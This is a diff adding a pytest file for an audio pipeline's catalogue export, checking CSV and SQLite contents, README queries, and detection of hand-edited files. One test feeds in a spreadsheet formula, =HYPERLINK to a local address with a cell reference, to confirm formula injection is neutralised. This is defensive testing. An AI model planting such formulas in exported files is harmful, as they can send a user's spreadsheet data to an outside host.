@@ -1,0 +1,131 @@
+"""catalog.csv and catalog.sqlite hold what the records say; the queries of config/README.md give the right numbers."""
+
+import csv
+import re
+import sqlite3
+from pathlib import Path
+
+import exhibits
+import pytest
+from audio_pipeline import catalogue, inventory, publication
+
+README = Path(__file__).parents[2] / "config/README.md"
+TOPICS = "Bread\nCoffee | language=pt-BR voice=pt_BR-faber-medium\nThe sea\n"
+# The answers to the questions of the README, in its order.
+ANSWERS = [
+    [("audio", 2, 0, 5.0), ("image", 2, 0, 5.0), ("script", 2, 200, 5.0)],
+    [("en", 1, 0.0), ("pt-BR", 1, 0.1)],
+    [("image", "bread", "edited", ""), ("script", "the-sea", "failed", "the model is away")],
+    [("coffee", "Coffee", 6.0), ("bread", "Bread", 2.0)],
+    [("2026-11-20", 2), ("2026-11-21", 2), ("2026-11-22", 2)],
+]
+
+
+@pytest.fixture
+def project(tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    project = exhibits.load(tmp_path, TOPICS)
+    exhibits.make(project, "bread", seconds=2)
+    exhibits.make(project, "coffee", seconds=6)
+    exhibits.fail(project, "script", "the-sea", "the model is away")
+    return project
+
+
+def rows(project) -> list[dict[str, str]]:
+    catalogue.write(inventory.read(project), project.output)
+    with open("data/output/catalog.csv", encoding="utf-8-sig", newline="") as file:
+        return list(csv.DictReader(file))
+
+
+def asked(query: str) -> list[tuple]:
+    with sqlite3.connect("data/output/catalog.sqlite") as database:
+        return database.execute(query).fetchall()
+
+
+def queries() -> list[str]:
+    section = README.read_text(encoding="utf-8").split("## Catalogue")[1].split("\n## ")[0]
+    return re.findall(r"```sql\n(.*?)```", section, re.DOTALL)
+
+
+def test_the_five_queries_of_the_readme_give_the_right_answers(project):
+    edited = Path("data/output/images/bread.png")
+    edited.write_bytes(b"drawn by hand")
+    exhibits.make(project, "bread", seconds=2)
+    changed = exhibits.load(Path.cwd(), TOPICS, image={"seed": 7})
+    edited.write_bytes(b"drawn by hand")
+    Path("data/output/records/image/coffee.json").write_text(
+        Path("data/output/records/image/coffee.json").read_text().replace('"seed": 42', '"seed": 7')
+    )
+    catalogue.write(inventory.read(changed), changed.output)
+    assert [asked(query) for query in queries()] == ANSWERS
+
+
+def test_a_file_has_a_row_with_what_its_record_says(project):
+    (row,) = [r for r in rows(project) if (r["slug"], r["stage"]) == ("coffee", "audio")]
+    assert row["path"] == "audio/coffee.wav"
+    assert (row["title"], row["language"], row["voice"]) == (
+        "Coffee",
+        "pt-BR",
+        "pt_BR-faber-medium",
+    )
+    assert (row["engine"], row["take"], row["seconds"], row["state"]) == (
+        "piper",
+        "0",
+        "2.5",
+        "made",
+    )
+    assert row["bytes"] == str(Path("data/output/audio/coffee.wav").stat().st_size)
+
+
+def test_csv_and_sqlite_hold_the_same_files(project):
+    listed = [(row["slug"], row["stage"], row["state"], row["sha256"]) for row in rows(project)]
+    stored = asked("SELECT slug, stage, state, coalesce(sha256, '') FROM files ORDER BY rowid")
+    assert listed == stored and len(listed) == 9
+
+
+def test_a_topic_has_its_worst_state_its_words_and_its_length(project):
+    rows(project)
+    assert asked("SELECT slug, position, state, words, duration_s, made FROM topics") == [
+        ("bread", 1, "made", 9, 2.0, "2026-11-22T10:00:00Z"),
+        ("coffee", 2, "made", 9, 6.0, "2026-11-22T10:00:00Z"),
+        ("the-sea", 3, "failed", 0, None, None),
+    ]
+
+
+def test_a_file_edited_or_placed_by_hand_is_told(project):
+    Path("data/output/images/bread.png").write_bytes(b"drawn by hand")
+    Path("data/output/records/image/bread.json").unlink()
+    changed = exhibits.load(
+        Path.cwd(), TOPICS, audio={**exhibits.CONFIG["audio"], "voice": "en_US-bert"}
+    )
+    states = {(row["slug"], row["stage"]): row["state"] for row in rows(changed)}
+    assert states["bread", "image"] == "edited"
+    assert states["bread", "audio"] == "stale"
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "＝"])
+def test_a_cell_of_the_csv_is_no_formula(start):
+    assert catalogue.harmless(f"{start}1+1") == f"'{start}1+1"
+
+
+def test_a_topic_that_is_a_formula_is_text_in_the_csv(tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    project = exhibits.load(tmp_path, '=HYPERLINK("http://127.0.0.1/?"&A1,"Click")\n')
+    assert {row["title"][0] for row in rows(project)} == {"'"}
+    ((title,),) = asked("SELECT title FROM topics")
+    assert title.startswith("=HYPERLINK")
+
+
+def test_a_query_that_is_open_while_the_catalogue_is_made_again_goes_on(project):
+    catalogue.write(inventory.read(project), project.output)
+    with sqlite3.connect("data/output/catalog.sqlite") as reader:
+        cursor = reader.execute("SELECT slug FROM topics")
+        cursor.fetchone()
+        catalogue.write([], project.output)
+        assert len(cursor.fetchall()) == 2
+    assert asked("SELECT count(*) FROM topics") == [(0,)]
+
+
+def test_making_all_of_it_leaves_no_temporary_file(project):
+    publication.make(project)
+    assert not list(Path("data/output").rglob("*.tmp"))
